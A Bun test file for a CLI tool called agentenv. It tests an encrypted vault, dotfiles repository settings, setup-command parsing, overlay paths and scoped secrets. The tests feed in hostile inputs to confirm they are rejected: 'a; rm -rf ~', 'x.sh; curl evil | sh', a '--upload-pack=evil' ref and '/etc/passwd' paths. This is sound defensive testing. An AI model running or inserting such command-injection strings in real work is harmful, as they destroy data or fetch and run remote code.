import { afterEach, beforeEach, describe, expect, test } from "bun:test";
import { chmodSync, existsSync, mkdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { basename, dirname, join } from "pathe";
import { UserError } from "../../core/errors.ts";
import { keyFile, readVault, writeVault } from "../../core/vault.ts";
import { agentenvDir } from "../../core/paths.ts";
import { hasOverlay, overlayFile } from "../../plugins/env/dotfiles/index.ts";
import { secretsFile } from "../../plugins/secrets/index.ts";
import { checkOverlayPath, overlayHash, readOverlay, writeOverlay, writeOverlayFiles, type Overlay } from "../../plugins/env/dotfiles/overlay.ts";
import { checkDotfiles, checkManager, checkRef, checkSetup, checkTimeout, confPath, confScript, describeDotfiles, localRepoTarget, resolveDotfilesUrl, splitCommandLine } from "../../plugins/env/dotfiles/repo.ts";
import { describeResult, parseResult } from "../../plugins/env/dotfiles/result.ts";
import { checkSecretName, readSecrets, secretsFor, writeSecrets, type SecretStore } from "../../plugins/secrets/store.ts";
import { agentenv, tempTree } from "../helpers/cli.ts";

/** The UserError FN throws (fails the test when it throws nothing, or something else). */
function userError(fn: () => unknown): UserError {
  try {
    fn();
  } catch (error) {
    expect(error).toBeInstanceOf(UserError);
    return error as UserError;
  }
  throw new Error("expected a UserError, nothing was thrown");
}

/** A fresh git repository (git init) in a temp dir. */
function gitRepo(bare = false): string {
  const dir = tempTree({}, "agentenv-dots-");
  const result = Bun.spawnSync(["git", "init", "-q", ...(bare ? ["--bare"] : []), dir], { stdout: "pipe", stderr: "pipe" });
  expect(result.exitCode).toBe(0);
  return dir;
}

const mode = (path: string) => statSync(path).mode & 0o777;

/** Fresh XDG_CONFIG_HOME / XDG_DATA_HOME and no AGENTENV_KEY for every test of the block; the old values come back after. */
function isolatedVault(): { config: () => string; data: () => string } {
  const names = ["XDG_CONFIG_HOME", "XDG_DATA_HOME", "AGENTENV_KEY"] as const;
  let saved: Record<string, string | undefined> = {};
  let dirs: string[] = [];
  beforeEach(() => {
    saved = Object.fromEntries(names.map((name) => [name, process.env[name]]));
    dirs = [tempTree({}, "agentenv-config-"), tempTree({}, "agentenv-data-")];
    process.env.XDG_CONFIG_HOME = dirs[0];
    process.env.XDG_DATA_HOME = dirs[1];
    delete process.env.AGENTENV_KEY;
  });
  afterEach(() => {
    for (const name of names) {
      if (saved[name] === undefined) delete process.env[name];
      else process.env[name] = saved[name];
    }
    for (const dir of dirs) rmSync(dir, { recursive: true, force: true });
  });
  return { config: () => dirs[0]!, data: () => dirs[1]! };
}

describe("vault", () => {
  const dirs = isolatedVault();
  const file = () => join(agentenvDir("data"), "test.enc");
  const value = { version: 1, token: "ghp_plaintext-secret-value", list: [1, 2, 3], nested: { ok: true } };

  test("the key and data dirs follow XDG_CONFIG_HOME and XDG_DATA_HOME", () => {
    expect(keyFile()).toBe(join(dirs.config(), "agentenv", "key"));
    expect(agentenvDir("data")).toBe(join(dirs.data(), "agentenv"));
  });

  test("writeVault then readVault round-trips a JSON value", () => {
    writeVault(file(), "test", value);
    expect(readVault<typeof value>(file(), "test")).toEqual(value);
  });

  test("the first write creates the key file, mode 0600, in its directory", () => {
    expect(existsSync(keyFile())).toBe(false);
    writeVault(file(), "test", value);
    expect(existsSync(dirname(keyFile()))).toBe(true);
    expect(statSync(dirname(keyFile())).isDirectory()).toBe(true);
    expect(mode(keyFile())).toBe(0o600);
    // the key file holds 32 bytes in base64, and a second write keeps it
    const key = readFileSync(keyFile(), "utf8");
    expect(Buffer.from(key.trim(), "base64").length).toBe(32);
    writeVault(file(), "test", value);
    expect(readFileSync(keyFile(), "utf8")).toBe(key);
  });

  test("the written file is mode 0600 and does not contain the plaintext", () => {
    writeVault(file(), "test", value);
    expect(mode(file())).toBe(0o600);
    const bytes = readFileSync(file());
    expect(bytes.subarray(0, 4).toString()).toBe("AEV1");
    expect(bytes.includes(Buffer.from(value.token))).toBe(false);
    expect(bytes.includes(Buffer.from("nested"))).toBe(false);
    // a fresh IV per write: the same value never encrypts to the same bytes
    writeVault(file(), "test", value);
    expect(readFileSync(file()).equals(bytes)).toBe(false);
  });

  test("a missing file reads as undefined", () => {
    expect(readVault(file(), "test")).toBeUndefined();
    expect(readVault(join(dirs.data(), "nowhere", "x.enc"), "test")).toBeUndefined();
  });

  test("one flipped byte of the ciphertext cannot be decrypted", () => {
    writeVault(file(), "test", value);
    const bytes = readFileSync(file());
    bytes[bytes.length - 1]! ^= 0x01;
    writeFileSync(file(), bytes);
    expect(userError(() => readVault(file(), "test")).message).toContain("cannot decrypt");
  });

  test("a flipped byte of the IV or tag cannot be decrypted either", () => {
    writeVault(file(), "test", value);
    for (const offset of [4, 4 + 12]) {
      const bytes = readFileSync(file());
      bytes[offset]! ^= 0x80;
      const tampered = join(dirs.data(), `tampered-${offset}.enc`);
      writeFileSync(tampered, bytes);
      expect(userError(() => readVault(tampered, "test")).message).toContain("cannot decrypt");
    }
  });

  test("a file read for another purpose cannot be decrypted", () => {
    writeVault(file(), "overlay:dev", value);
    expect(userError(() => readVault(file(), "overlay:other")).message).toContain("cannot decrypt");
    expect(readVault(file(), "overlay:dev")).toEqual(value);
  });

  test("a file that is not a vault file is named as such", () => {
    writeVault(file(), "test", value);
    const other = join(dirs.data(), "plain.enc");
    writeFileSync(other, "just some text that is long enough to pass the length check");
    expect(userError(() => readVault(other, "test")).message).toContain("is not an agentenv encrypted file");
  });

  test("a key file others can read is refused, with chmod 600 as the fix", () => {
    writeVault(file(), "test", value);
    chmodSync(keyFile(), 0o644);
    const error = userError(() => readVault(file(), "test"));
    expect(error.message).toContain(keyFile());
    expect(error.hint).toContain("chmod 600");
    expect(userError(() => writeVault(file(), "test", value)).hint).toContain("chmod 600");
  });

  test("AGENTENV_KEY (64 hex digits) is used instead of the key file; another key cannot read its files", () => {
    process.env.AGENTENV_KEY = "ab".repeat(32);
    writeVault(file(), "test", value);
    expect(existsSync(keyFile())).toBe(false);
    expect(readVault(file(), "test")).toEqual(value);
    process.env.AGENTENV_KEY = "cd".repeat(32);
    const error = userError(() => readVault(file(), "test"));
    expect(error.message).toContain("cannot decrypt");
    expect(error.message).toContain("AGENTENV_KEY");
  });

  test("AGENTENV_KEY in base64 works and is the same key as its hex spelling", () => {
    const raw = Buffer.alloc(32, 7);
    process.env.AGENTENV_KEY = raw.toString("base64");
    writeVault(file(), "test", value);
    process.env.AGENTENV_KEY = raw.toString("hex").toUpperCase();
    expect(readVault(file(), "test")).toEqual(value);
  });

  test("an AGENTENV_KEY that is not a key is refused", () => {
    process.env.AGENTENV_KEY = "not-a-key";
    expect(userError(() => writeVault(file(), "test", value)).message).toContain("64 hex digits");
    process.env.AGENTENV_KEY = "ab".repeat(31);
    expect(userError(() => writeVault(file(), "test", value)).message).toContain("64 hex digits");
    expect(existsSync(file())).toBe(false);
  });

  test("an encrypted file whose key file was deleted says its key is missing", () => {
    writeVault(file(), "test", value);
    rmSync(keyFile());
    const error = userError(() => readVault(file(), "test"));
    expect(error.message).toContain("its key is missing");
    expect(error.message).toContain(keyFile());
    // reading never creates a new key
    expect(existsSync(keyFile())).toBe(false);
    // nor does writing while files encrypted with the lost one exist: they would be orphaned
    const write = userError(() => writeVault(join(agentenvDir("data"), "other.enc"), "test", value));
    expect(write.message).toContain(`the key that encrypted ${file()} is missing`);
    expect(existsSync(keyFile())).toBe(false);
  });
});

describe("dotfiles URL", () => {
  const cwd = tempTree({}, "agentenv-cwd-");

  test("owner/repo is GitHub", () => {
    expect(resolveDotfilesUrl("owner/repo", cwd)).toBe("https://github.com/owner/repo.git");
    expect(resolveDotfilesUrl("owner/repo.git", cwd)).toBe("https://github.com/owner/repo.git");
    expect(resolveDotfilesUrl("  my-org/dot.files  ", cwd)).toBe("https://github.com/my-org/dot.files.git");
  });

  test("git URLs pass through unchanged", () => {
    for (const url of ["https://example.com/me/dots.git", "https://gitlab.com/a/b/c", "ssh://git@host:22/x.git", "git@github.com:me/dots.git", "git@host.example:path/to/repo"]) {
      expect(resolveDotfilesUrl(url, cwd)).toBe(url);
    }
  });

  test("a local repository becomes its absolute path: relative, file:// or absolute", () => {
    const repo = gitRepo();
    const parent = dirname(repo);
    expect(resolveDotfilesUrl(basename(repo), parent)).toBe(repo);
    expect(resolveDotfilesUrl(`./${basename(repo)}`, parent)).toBe(repo);
    expect(resolveDotfilesUrl(`file://${repo}`, cwd)).toBe(repo);
    expect(resolveDotfilesUrl(repo, cwd)).toBe(repo);
    expect(resolveDotfilesUrl(`${repo}/`, cwd)).toBe(repo);
  });

  test("a bare repository counts as a repository", () => {
    const bare = gitRepo(true);
    expect(resolveDotfilesUrl(bare, cwd)).toBe(bare);
  });

  test("a directory that is not a git repository is refused", () => {
    const plain = tempTree({ ".bashrc": "" });
    expect(userError(() => resolveDotfilesUrl(plain, cwd)).message).toContain("is not a git repository");
    expect(userError(() => resolveDotfilesUrl(`./${basename(plain)}`, dirname(plain))).message).toContain("is not a git repository");
  });

  test("a missing directory, or a file, is no such directory", () => {
    expect(userError(() => resolveDotfilesUrl("./missing", cwd)).message).toContain("no such directory");
    expect(userError(() => resolveDotfilesUrl("/nonexistent/agentenv/dots", cwd)).message).toContain("no such directory");
    const withFile = tempTree({ "afile": "x" });
    expect(userError(() => resolveDotfilesUrl("./afile", withFile)).message).toContain("no such directory");
  });

  test("anything else is refused", () => {
    for (const bad of ["not a url", "", "   ", "a/b/c", "owner/repo\nx"]) expect(() => resolveDotfilesUrl(bad, cwd)).toThrow(UserError);
  });
});

describe("dotfiles ref and setup", () => {
  test("a ref is a branch, tag or commit; empty is none", () => {
    expect(checkRef(undefined)).toBeUndefined();
    expect(checkRef("")).toBeUndefined();
    const sha = "0123456789abcdef0123456789abcdef01234567";
    for (const good of ["main", "v1.2", sha, "feature/x"]) expect(checkRef(good)).toBe(good);
    for (const bad of ["-x", "--upload-pack=evil", "a b", "a:b", "a\nb", "a~1", "a^", "a*"]) {
      expect(userError(() => checkRef(bad)).message).toContain("is not a branch, tag or commit name");
    }
  });

  test("a setup command is a program inside the repo (or a bare name on PATH) and its arguments, recorded as shell-quoted words", () => {
    expect(checkSetup(undefined)).toBeUndefined();
    expect(checkSetup("")).toBeUndefined();
    expect(checkSetup("  ")).toBeUndefined();
    expect(checkSetup("./script/setup")).toBe("script/setup");
    expect(checkSetup("install.sh")).toBe("install.sh");
    expect(checkSetup("bootstrap.sh --force")).toBe("bootstrap.sh --force");
    expect(checkSetup(`install.sh "two words" 'it''s' a\\ b`)).toBe("install.sh 'two words' its 'a b'");
    expect(checkSetup("make install")).toBe("make install");
    expect(checkSetup("none")).toBe("none");
    // a script that is called none
    expect(checkSetup("./none")).toBe("./none");
    for (const bad of ["/abs", "../x", "a/../../x", "a//b", "dir/", "'' --force"]) {
      expect(userError(() => checkSetup(bad)).message).toContain("must be a path inside the repo");
    }
    expect(userError(() => checkSetup("a\nb")).message).toContain("one line");
  });

  test("a command line splits as a shell splits it, and what a shell would expand or run is refused", () => {
    expect(splitCommandLine(`a  b\t"c d" 'e "f"' g\\ h "i\\"j" k=#`)).toEqual(["a", "b", "c d", 'e "f"', "g h", 'i"j', "k=#"]);
    expect(splitCommandLine("'$HOME' \"a'b\"")).toEqual(["$HOME", "a'b"]);
    const refused: Array<[string, string]> = [
      ["x $HOME", "$ is not allowed unquoted"],
      ["x `id`", "` is not allowed unquoted"],
      ['x "$HOME"', "$ inside double quotes would be expanded"],
      ["a; rm -rf ~", "; is not allowed unquoted"],
      ["a | b", "| is not allowed unquoted"],
      ["a > f", "> is not allowed unquoted"],
      ["a *.sh", "* is not allowed unquoted"],
      ["a ~/x", "a word starting with ~"],
      ["a #comment", "a word starting with #"],
      ["'open", "a ' is not closed"],
      ['"open', 'a " is not closed'],
      ["a\\", "it ends with a backslash"],
    ];
    for (const [line, why] of refused) {
      const error = userError(() => splitCommandLine(line));
      expect(error.message).toContain(why);
      expect(error.hint).toContain("--setup 'bootstrap.sh --force'");
    }
  });

  test("managers and time limits", () => {
    for (const manager of ["plain", "rcm", "stow", "chezmoi"]) expect(checkManager(manager)).toBe(manager as "plain");
    expect(checkManager(undefined)).toBeUndefined();
    expect(checkManager("")).toBeUndefined();
    expect(userError(() => checkManager("yadm")).message).toBe('dotfiles manager "yadm": use one of plain, rcm, stow, chezmoi');
    expect([checkTimeout("600"), checkTimeout("90s"), checkTimeout("10m"), checkTimeout("10min"), checkTimeout("1h"), checkTimeout(45)]).toEqual([600, 90, 600, 600, 3600, 45]);
    expect(checkTimeout(undefined)).toBeUndefined();
    for (const bad of ["0", "-5", "25h", "1.5m", "soon", "10 minutes"]) expect(userError(() => checkTimeout(bad)).message).toContain("give seconds, or 90s, 10m, 1h");
  });

  test("a record's dotfiles (from an archive, or a home) are checked field by field", () => {
    const url = "https://github.com/o/r.git";
    expect(checkDotfiles({ url, setup: "bootstrap.sh --force", manager: "stow", timeout: 120 })).toEqual({ url, setup: "bootstrap.sh --force", manager: "stow", timeout: 120 });
    expect(userError(() => checkDotfiles({ url, manager: "evil" })).message).toContain('dotfiles manager "evil"');
    expect(userError(() => checkDotfiles({ url, timeout: "600" })).message).toContain("not a number");
    expect(userError(() => checkDotfiles({ url, setup: "x.sh; curl evil | sh" })).message).toContain("; is not allowed unquoted");
  });
});

describe("the last setup's result (read from a home: hostile)", () => {
  const text = (lines: string[]) => `${lines.join("\n")}\n`;

  test("parsed field by field", () => {
    const result = parseResult(text(["status=applied", "time=1700000000", `commit=${"a".repeat(40)}`, "ran=rcm, then hooks/post-up", "added=5", "changed=1", "removed=0", "links=4", "message=rcm: 5 added"]));
    expect(result).toEqual({ status: "applied", time: "2023-11-14T22:13:20.000Z", commit: "a".repeat(40), ran: "rcm, then hooks/post-up", added: 5, changed: 1, removed: 0, links: 4, message: "rcm: 5 added" });
    expect(describeResult(result!, () => "1 min ago")).toBe("applied 1 min ago — rcm, then hooks/post-up: 5 added (4 links), 1 changed");
    const failed = parseResult(text(["status=needs-terminal", "message=bootstrap.sh needs a terminal"]))!;
    expect(describeResult(failed, () => "")).toBe("needs-terminal: bootstrap.sh needs a terminal (log: ~/.local/state/agentenv/dotfiles.log)");
  });

  test("an unknown status is no result; bad numbers are 0; control characters go; the first of a repeated key counts", () => {
    expect(parseResult(undefined)).toBeUndefined();
    expect(parseResult(text(["status=pwned"]))).toBeUndefined();
    const odd = parseResult(text(["status=failed", "status=applied", "added=-3", "changed=1e9x", "time=yesterday", "commit=../../etc", "message=\u001b[31mred\u0007"]))!;
    expect(odd).toMatchObject({ status: "failed", added: 0, changed: 0, time: undefined, commit: undefined, message: "[31mred" });
    expect(parseResult(text(["status=failed", `message=${"x".repeat(5000)}`]))!.message).toHaveLength(500);
  });
});

describe("dotfiles description", () => {
  test("a password in the URL is masked", () => {
    const shown = describeDotfiles({ url: "https://user:pass@host/x.git" });
    expect(shown).toBe("https://user:***@host/x.git");
    expect(shown).not.toContain("pass@");
  });

  test("GitHub URLs are owner/repo; a ref follows @", () => {
    expect(describeDotfiles({ url: "https://github.com/owner/repo.git" })).toBe("owner/repo");
    expect(describeDotfiles({ url: "https://github.com/owner/repo.git", ref: "main" })).toBe("owner/repo@main");
    expect(describeDotfiles({ url: "/home/me/dots" })).toBe("/home/me/dots");
    expect(describeDotfiles({ url: "git@github.com:me/dots.git" })).toBe("git@github.com:me/dots.git");
  });
});

describe("dotfiles.conf", () => {
  /** Runs confScript's lines with sh in a HOME-like temp dir; the conf file's lines, or undefined when there is none. */
  function runConf(lines: string[], home: string): string[] | undefined {
    for (const line of lines) {
      const result = Bun.spawnSync(["sh", "-c", line], { stdout: "pipe", stderr: "pipe" });
      expect(result.stderr.toString()).toBe("");
      expect(result.exitCode).toBe(0);
    }
    const file = join(home, confPath);
    return existsSync(file) ? readFileSync(file, "utf8").split("\n") : undefined;
  }

  function home(): string {
    const dir = tempTree({}, "agentenv-home-");
    mkdirSync(join(dir, ".local/state/agentenv"), { recursive: true });
    return dir;
  }

  test("a local repo: url, ref, setup and where the repo is mounted", () => {
    const dir = home();
    const lines = confScript(dir, { url: "/abs/repo", ref: "main" });
    expect(lines).toHaveLength(2); // written beside it, then renamed over it
    expect(lines[0]).toContain(`local=${localRepoTarget}`);
    expect(runConf(lines, dir)).toEqual(["url=/abs/repo", "ref=main", "setup=", "local=/run/agentenv/dotfiles-repo", "manager=", "timeout=", ""]);
  });

  test("a remote repo has no local=; values with shell characters are quoted", () => {
    const dir = home();
    const url = "https://host/it's a $(dots) `repo`.git";
    const setup = checkSetup("script/setup 'it''s' --force")!;
    const lines = confScript(dir, { url, setup, manager: "rcm", timeout: 90 });
    expect(runConf(lines, dir)).toEqual([`url=${url}`, "ref=", "setup=script/setup its --force", "local=", "manager=rcm", "timeout=90", ""]);
    // what the container reads back with eval "set -- …": the same words
    const words = Bun.spawnSync(["sh", "-c", `eval "set -- $1"; printf '[%s]' "$@"`, "sh", checkSetup(`x.sh 'a b' "c'd" '$HOME'`)!]).stdout.toString();
    expect(words).toBe("[x.sh][a b][c'd][$HOME]");
  });

  test("no dotfiles removes the conf", () => {
    const dir = home();
    expect(runConf(confScript(dir, { url: "/abs/repo" }), dir)).toBeDefined();
    const lines = confScript(dir, undefined);
    expect(lines).toEqual([`rm -f ${dir}/${confPath}`]);
    expect(runConf(lines, dir)).toBeUndefined();
  });
});

describe("overlay paths", () => {
  test("paths inside HOME are accepted, normalised", () => {
    expect(checkOverlayPath(".bashrc")).toBe(".bashrc");
    expect(checkOverlayPath("~/.config/nvim/init.lua")).toBe(".config/nvim/init.lua");
    expect(checkOverlayPath("./.x")).toBe(".x");
    expect(checkOverlayPath("././.gitconfig")).toBe(".gitconfig");
  });

  test("absolute paths, .., empty parts and directories are refused", () => {
    for (const bad of ["/etc/passwd", "../x", ".config/../../x", "a/./b", "a//b", "dir/", "~", "~/", "a\nb"]) {
      expect(userError(() => checkOverlayPath(bad)).message).toContain("give a file path inside HOME");
    }
    expect(userError(() => checkOverlayPath("")).message).toContain("a path under HOME is needed");
    expect(userError(() => checkOverlayPath(undefined)).message).toContain("a path under HOME is needed");
  });

  test("agentenv's state and the dotfiles checkout are refused", () => {
    // its parents too: a file there would replace the directory that holds it
    for (const state of [".local", ".local/state", ".local/state/agentenv", ".local/state/agentenv/env.json", "~/.local/state/agentenv/dotfiles.conf"]) {
      expect(userError(() => checkOverlayPath(state)).message).toContain("agentenv's own state");
    }
    for (const repo of [".dotfiles/x", "~/.dotfiles/.bashrc"]) expect(userError(() => checkOverlayPath(repo)).message).toContain("dotfiles repo's checkout");
  });
});

describe("overlay files", () => {
  const b64 = (text: string) => Buffer.from(text).toString("base64");
  const overlay = (): Overlay => ({
    version: 1,
    files: { ".gitconfig": { mode: 0o644, data: b64("[user]\n") }, ".config/tool/token": { mode: 0o600, data: b64("secret\n") }, "bin/run": { mode: 0o755, data: b64("#!/bin/sh\n") }, "shared.txt": { mode: 0o664, data: b64("group-writable\n") } },
  });

  test("the hash follows content, mode and path, not key order", () => {
    const base = overlayHash(overlay());
    expect(base).toMatch(/^[0-9a-f]{64}$/);
    expect(overlayHash(overlay())).toBe(base);
    const reordered: Overlay = { version: 1, files: Object.fromEntries(Object.entries(overlay().files).reverse()) };
    expect(Object.keys(reordered.files)).not.toEqual(Object.keys(overlay().files));
    expect(overlayHash(reordered)).toBe(base);

    const content = overlay();
    content.files[".gitconfig"]!.data = b64("[user]\n\tname = x\n");
    const mode = overlay();
    mode.files[".gitconfig"]!.mode = 0o600;
    const path = overlay();
    path.files[".gitconfig2"] = path.files[".gitconfig"]!;
    delete path.files[".gitconfig"];
    const hashes = [base, overlayHash(content), overlayHash(mode), overlayHash(path), overlayHash({ version: 1, files: {} })];
    expect(new Set(hashes).size).toBe(hashes.length);
  });

  test("writeOverlayFiles writes each file with its mode, and overlay.hash", () => {
    const dir = tempTree({}, "agentenv-handoff-");
    writeOverlayFiles(overlay(), dir);
    expect(readFileSync(join(dir, "overlay", ".gitconfig"), "utf8")).toBe("[user]\n");
    expect(readFileSync(join(dir, "overlay", ".config/tool/token"), "utf8")).toBe("secret\n");
    expect(readFileSync(join(dir, "overlay", "bin/run"), "utf8")).toBe("#!/bin/sh\n");
    expect(statSync(join(dir, "overlay", ".gitconfig")).mode & 0o777).toBe(0o644);
    expect(statSync(join(dir, "overlay", ".config/tool/token")).mode & 0o777).toBe(0o600);
    expect(statSync(join(dir, "overlay", "bin/run")).mode & 0o777).toBe(0o755);
    // the stored mode, whatever the umask
    expect(statSync(join(dir, "overlay", "shared.txt")).mode & 0o777).toBe(0o664);
    expect(readFileSync(join(dir, "overlay.hash"), "utf8")).toBe(`${overlayHash(overlay())}\n`);
    expect(statSync(join(dir, "overlay.hash")).mode & 0o777).toBe(0o600);
  });

  test("an empty overlay writes only its hash", () => {
    const dir = tempTree({}, "agentenv-handoff-");
    writeOverlayFiles({ version: 1, files: {} }, dir);
    expect(existsSync(join(dir, "overlay"))).toBe(false);
    expect(readFileSync(join(dir, "overlay.hash"), "utf8")).toBe(`${overlayHash({ version: 1, files: {} })}\n`);
  });
});

describe("overlay store", () => {
  isolatedVault();

  test("an overlay is stored encrypted per environment; an empty one removes the file", () => {
    expect(hasOverlay("dev")).toBe(false);
    expect(readOverlay("dev")).toEqual({ version: 1, files: {} });
    const stored: Overlay = { version: 1, files: { ".gitconfig": { mode: 0o600, data: Buffer.from("[user]\n").toString("base64") } } };
    writeOverlay("dev", stored);
    expect(hasOverlay("dev")).toBe(true);
    expect(readOverlay("dev")).toEqual(stored);
    // bound to its environment: copied over another one's file, it is refused
    writeFileSync(overlayFile("other"), readFileSync(overlayFile("dev")));
    expect(userError(() => readOverlay("other")).message).toContain("cannot decrypt");
    writeOverlay("dev", { version: 1, files: {} });
    expect(hasOverlay("dev")).toBe(false);
  });
});

describe("secrets", () => {
  isolatedVault();

  test("a secret's name is a variable name the session does not set itself", () => {
    for (const good of ["GITHUB_TOKEN", "_X", "a1"]) expect(checkSecretName(good)).toBe(good);
    for (const bad of ["1X", "A-B", "A B", ""]) expect(() => checkSecretName(bad)).toThrow(UserError);
    expect(userError(() => checkSecretName(undefined)).message).toContain("a secret name is needed");
    expect(userError(() => checkSecretName("1X")).message).toContain("environment variable name");
    expect(userError(() => checkSecretName("A-B")).message).toContain("environment variable name");
    for (const reserved of ["PATH", "HOME", "AGENTENV_X", "AGENTENV_"]) expect(userError(() => checkSecretName(reserved)).message).toContain("sessions set this variable themselves");
  });

  test("a session gets all-environment secrets, overridden by its environment's, and no other environment's", () => {
    const store: SecretStore = { version: 1, scopes: { "*": { A: "all", B: "all" }, dev: { B: "dev", C: "dev" }, other: { D: "other", A: "other" } } };
    expect(secretsFor(store, "dev")).toEqual({ A: "all", B: "dev", C: "dev" });
    expect(secretsFor(store, "other")).toEqual({ A: "other", B: "all", D: "other" });
    expect(secretsFor(store, undefined)).toEqual({ A: "all", B: "all" });
    expect(secretsFor(store, "missing")).toEqual({ A: "all", B: "all" });
    expect(secretsFor({ version: 1, scopes: { dev: { C: "dev" } } }, "dev")).toEqual({ C: "dev" });
  });

  test("written secrets read back, encrypted, with empty scopes dropped", () => {
    expect(readSecrets()).toEqual({ version: 1, scopes: {} });
    writeSecrets({ version: 1, scopes: { "*": { GITHUB_TOKEN: "ghp_topsecret" }, dev: {}, work: { NPM_TOKEN: "npm_x" } } });
    expect(existsSync(secretsFile())).toBe(true);
    expect(readFileSync(secretsFile()).includes(Buffer.from("ghp_topsecret"))).toBe(false);
    const read = readSecrets();
    expect(read).toEqual({ version: 1, scopes: { "*": { GITHUB_TOKEN: "ghp_topsecret" }, work: { NPM_TOKEN: "npm_x" } } });
    expect(Object.keys(read.scopes)).not.toContain("dev");
  });

  test("names that are Object's own (constructor, __proto__) are plain names", () => {
    const store = readSecrets();
    expect(secretsFor(store, "constructor")).toEqual({});
    store.scopes["constructor"] = Object.assign(Object.create(null), { TOKEN: "c" });
    writeSecrets(store);
    const read = readSecrets();
    expect(secretsFor(read, "constructor")).toEqual({ TOKEN: "c" });
    expect(secretsFor(read, "__proto__")).toEqual({});
  });
});

describe("variadic positionals", () => {
  /** Through the CLI as in cli.test.ts: a plugin's commands, one with a variadic positional; nothing touches the engine. */
  const project = tempTree({
    "agentenv.config.ts": `
      import { definePlugin } from "agentenv";
      export default {
        plugins: [definePlugin({
          name: "words",
          commands: {
            many: async () => ({ meta: { name: "many" }, args: { first: { type: "positional" }, rest: { type: "positional", variadic: true }, loud: { type: "boolean" } }, run: ({ args }) => { console.log(args._.join(",")); return 0; } }),
            one: async () => ({ meta: { name: "one" }, args: { only: { type: "positional" } }, run: () => 0 }),
          },
        })],
      };`,
  });

  test("a variadic positional takes every extra word", async () => {
    const result = await agentenv(["many", "a", "b", "c", "d"], { cwd: project });
    expect(result.stderr).toBe("");
    expect(result.code).toBe(0);
    expect(result.stdout).toBe("a,b,c,d\n");
  });

  test("without one, an extra word is still a usage error", async () => {
    const result = await agentenv(["one", "a", "b"], { cwd: project });
    expect(result.code).toBe(2);
    expect(result.stderr.trim().split("\n").at(-1)).toBe("agentenv: unexpected argument b");
  });

  test("a variadic positional does not let unknown options through", async () => {
    const result = await agentenv(["many", "a", "b", "--bogus"], { cwd: project });
    expect(result.code).toBe(2);
    expect(result.stderr.trim().split("\n").at(-1)).toBe("agentenv: unknown option --bogus");
  });
});
